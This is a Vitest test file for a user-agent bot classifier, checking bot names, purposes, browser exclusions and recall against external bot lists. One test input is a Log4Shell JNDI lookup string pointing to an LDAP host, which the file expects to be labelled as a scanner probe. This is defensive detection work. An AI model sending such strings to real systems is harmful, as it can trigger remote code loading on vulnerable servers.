import { expect, test } from 'vitest'
import { botByName, missingAgent, readBot } from '#lib/enrich/bots.ts'
import { plainNames } from '#lib/enrich/ai-bots.ts'
import { knownBots, purposes } from '#lib/enrich/known-bots.ts'
import { needs } from '../needs.ts'
import { hitOf, readRows, thousandsPerSecond } from './corpus.ts'

const khtml = '(KHTML, like Gecko)'

test.each([
  // Wrong results of the seed
  ['curl/8', 'curl', 'library'],
  [
    'Mozilla/5.0 AppleWebKit/537.36; compatible; ChatGPT-User/1.0; +https://openai.com/bot',
    'ChatGPT-User',
    'ai_user'
  ],
  [
    'Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)',
    'Baiduspider',
    'search'
  ],
  [
    'Mozilla/5.0 (Linux; Android 5.0) (compatible; Bytespider; spider-feedback@bytedance.com)',
    'Bytespider',
    'ai_training'
  ],
  ['AdsBot-Google (+http://www.google.com/adsbot.html)', 'AdsBot-Google', 'ads'],
  // The longer name goes first, the first bot named is the one
  ['Googlebot-Image/1.0', 'Googlebot-Image', 'search, ai_training'],
  [
    'Mozilla/5.0 (iPhone) Version/8.0 Safari/600.1.4 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    'Googlebot',
    'search, ai_training'
  ],
  ['Mozilla/5.0 (compatible; Applebot-Extended/0.1)', 'Applebot-Extended', 'ai_training'],
  ['facebookexternalhit/1.1 Facebot Twitterbot/1.0', 'facebookexternalhit', 'preview'],
  ['TelegramBot (like TwitterBot)', 'TelegramBot', 'preview'],
  ['Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)', 'SemrushBot', 'seo'],
  [
    'serpstatbot/1.0 (advanced backlink tracking bot; curl/7.58.0; http://serpstatbot.com/)',
    'serpstatbot',
    'seo'
  ],
  ['Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)', 'UptimeRobot', 'monitor'],
  ['kube-probe/1.27', 'kube-probe', 'monitor'],
  [
    'Feedly/1.0 (+http://www.feedly.com/fetcher.html; 231 subscribers; like FeedFetcher-Google)',
    'Feedly',
    'feed'
  ],
  [
    'Mozilla/5.0 (compatible; archive.org_bot +http://archive.org/details/archive.org_bot)',
    'archive.org_bot',
    'archive'
  ],
  ['Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)', 'CensysInspect', 'security'],
  ['Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)', 'Nikto', 'scanner'],
  ['${jndi:ldap://198.51.100.9:1389/a}', 'Log4Shell probe', 'scanner'],
  ['python-requests/2.31.0', 'python-requests', 'library'],
  ['Java/1.8.0_151', 'Java', 'library'],
  [
    `Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 ${khtml} HeadlessChrome/120.0 Safari/537.36`,
    'HeadlessChrome',
    'library'
  ],
  // Not in the table
  ['Mozilla/5.0 (compatible; HubSpot Crawler; web-crawlers@hubspot.com)', 'HubSpot Crawler', 'other'],
  ['FooBot/1.2 (+https://foo.example/bot)', 'FooBot', 'other'],
  ['Mozilla/5.0 (compatible; Quux/3.1; +https://quux.example/)', 'Quux', 'other'],
  ['2ip bot/1.1 (+http://2ip.io)', '2ip bot', 'other'],
  ['0', 'Unnamed', 'other']
])('%s', (agent, bot_name, bot_purpose) => {
  expect(readBot(agent)).toEqual({ is_bot: true, bot_name, bot_purpose })
})

test.each([
  `Mozilla/5.0 (Linux; Android 9; CUBOT_P30 Build/PPR1) AppleWebKit/537.36 ${khtml} Chrome/88.0 Mobile Safari/537.36`,
  `Mozilla/5.0 (Linux; Android 6.0; CUBOT NOTE S; wv) AppleWebKit/537.36 ${khtml} Version/4.0 Chrome/64.0 Mobile Safari/537.36`,
  `Mozilla/5.0 (Linux; Android 4.1.2; Google Nexus 7) AppleWebKit/537.36 ${khtml} Chrome/46.0 Safari/537.36`,
  `Mozilla/5.0 (Linux; GoogleTV 3.2; NSZ-GS7/GX70) AppleWebKit/534.24 ${khtml} Chrome/11.0.696.77 Safari/534.24`,
  `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 ${khtml} Chrome/120.0.0.0 Safari/537.36`,
  `Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 ${khtml} Mobile/15E148 Instagram 312.0`,
  'Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0',
  'Opera/9.80 (Linux armv6l; U; NETRANGEMMH;HbbTV/1.1.1;CE-HTML/1.0; en) Presto/2.10.250 Version/11.60'
])('%s is none', (agent) => expect(readBot(agent).is_bot).toBe(false))

// kind, flags → whether no agent declares a machine
test.each([
  ['request', 'no_agent', true],
  ['request', 'request,no_agent', true],
  ['request', null, false],
  ['request', 'request', false],
  ['error', 'no_agent', false]
])('a %s with the flags %s without an agent', (kind, flags, is_bot) => {
  expect(missingAgent(hitOf({ kind, flags })).is_bot).toBe(is_bot)
})

test('the table names each token once and knows who runs what', () => {
  const tokens = knownBots.flatMap(([, , list]) =>
    list.split(', ').map((token) => token.split(' = ')[0]!.toLowerCase())
  )
  expect(tokens.filter((token, at) => tokens.indexOf(token) !== at)).toEqual([])
  expect(botByName('GPTBot')).toEqual({ name: 'GPTBot', operator: 'OpenAI', purpose: 'ai_training' })
  expect(botByName('Quux')).toBeNull()
})

test('the table is written as its reader reads it', () => {
  const broken = [...knownBots, ...plainNames].flatMap(([purpose, operator, list]) => [
    ...(/[=,/]|^\s|\s$/.test(operator) ? [operator] : []),
    ...purpose.split(', ').filter((one) => !purposes.some((known) => known === one)),
    ...list
      .split(', ')
      .filter(
        (token) => !/^\S(?:.*\S)?$/.test(token) || token.split(' = ').length > 2 || / =$|^= |,/.test(token)
      )
  ])
  expect(broken).toEqual([])
  // The rules that judge visitors ask for these alone.
  const joined = [...knownBots, ...plainNames].filter(
    ([purpose]) => purpose.includes(',') && /scanner|monitor|library/.test(purpose)
  )
  expect(joined).toEqual([])
  expect(botByName('Lumar')?.operator).toBe('Lumar')
})

interface Row {
  ua: string
  is_bot?: boolean
  expect?: { is_bot?: boolean | null }
}

/** Where isbot's lists and we differ: people behind Google's Web Light, Sogou, DuckDuckGo and players of podcasts; tools named as browsers. */
const disputed =
  /googleweblight|SogouMSE|^ddg_android|Reaver|HLB\/|Assetnote|GTmetrix|Miniature\.io|Lucidworks|360JK|Slurp|Amzn-User|^Downcast|^Pulp|^Mozilliqa|kendra/

// A whole browser around a plain name is a person's program.
test.each([
  ['Cursor/1.0', true, 'ai_user'],
  ['Spider', true, 'ai_training'],
  [
    `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 ${khtml} Code/1.96.0 Chrome/128.0.6613.186 Electron/32.2.6 Safari/537.36`,
    false,
    null
  ]
])('a plain name makes nobody a bot: %s', (agent, is_bot, bot_purpose) => {
  expect(readBot(agent)).toMatchObject({ is_bot, bot_purpose })
})

test.each([
  'ddg_win',
  'ddg_win/0.141.9.0',
  'ddg_mac/1.150',
  'ddg_android/5.9 (com.duckduckgo.mobile.android)'
])('a browser that fetches the icon of a page is no bot: %s', (agent) => {
  expect(readBot(agent).is_bot).toBe(false)
  expect(readBot('ddg_winbot/1.0').is_bot).toBe(true)
})

needs('shared')('the lists', () => {
  test('every AI crawler that is listed has a purpose', () => {
    const tokens = readRows<{ token: string }>('agents/bots-ai-robots-tokens.jsonl.gz')
    const forms = (token: string) => [token, `${token}/1.0`, `Mozilla/5.0 (compatible; ${token}/1.0)`]
    const others = tokens.filter(({ token }) =>
      forms(token).some((agent) => (readBot(agent).bot_purpose ?? 'other') === 'other')
    )
    expect(others).toEqual([])
    expect(botByName('Cursor')?.operator).toBe('Anysphere')
  })

  // yauaa and browscap take some libraries, apps and stripped agents for browsers.
  test.each([
    ['bots-isbot-crawlers', 99.5, 0],
    ['bots-arcjet-well-known-bots', 99.9, 0],
    ['bots-monperrus-crawler-user-agents', 99.5, 0],
    ['bots-isbot-browsers', 0, 1.3],
    ['browscap', 98, 1.2],
    ['yauaa', 95, 5]
  ])(
    '%s',
    (name, recall, falseAlarms) => {
      const isOfIsbot = name.startsWith('bots-isbot-')
      const all = readRows<Row>(`agents/${name}.jsonl.gz`)
      const rows = all
        .filter(({ ua }) => !(isOfIsbot && disputed.test(ua)))
        .map((row) => ({
          isBot: row.is_bot ?? row.expect?.is_bot ?? null,
          isFound: readBot(row.ua).is_bot
        }))
      const share = (isBot: boolean) => {
        const some = rows.filter((row) => row.isBot === isBot)
        return some.length === 0 ? null : (100 * some.filter(({ isFound }) => isFound).length) / some.length
      }
      const [found, wrong] = [share(true), share(false)]
      console.log(`${name}: recall ${found?.toFixed(1)} %, false alarms ${wrong?.toFixed(1)} %`)
      expect(found ?? 100).toBeGreaterThanOrEqual(recall)
      expect(wrong ?? 0).toBeLessThanOrEqual(falseAlarms)
    },
    60_000
  )

  test('are read fast', () => {
    const agents = readRows<Row>('agents/yauaa.jsonl.gz').map(({ ua }) => ua)
    const speed = thousandsPerSecond(agents, readBot)
    console.log(`bots: ${speed} k/s`)
    expect(speed).toBeGreaterThan(20)
  }, 60_000)
})
